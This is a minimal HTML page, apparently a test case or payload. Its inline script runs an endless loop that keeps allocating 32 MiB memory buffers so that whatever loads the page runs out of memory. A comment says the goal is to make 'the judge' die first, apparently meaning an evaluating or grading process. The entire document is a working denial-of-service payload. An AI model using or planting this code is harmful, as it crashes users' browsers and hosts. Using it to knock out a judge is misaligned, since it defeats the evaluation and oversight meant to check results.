<!-- Take all memory and hope that the judge dies first. -->
<html><head><title>x</title><script>
const kept = [];
for (;;) kept.push(new Uint8Array(32 << 20).fill(kept.length));
</script></head><body></body>
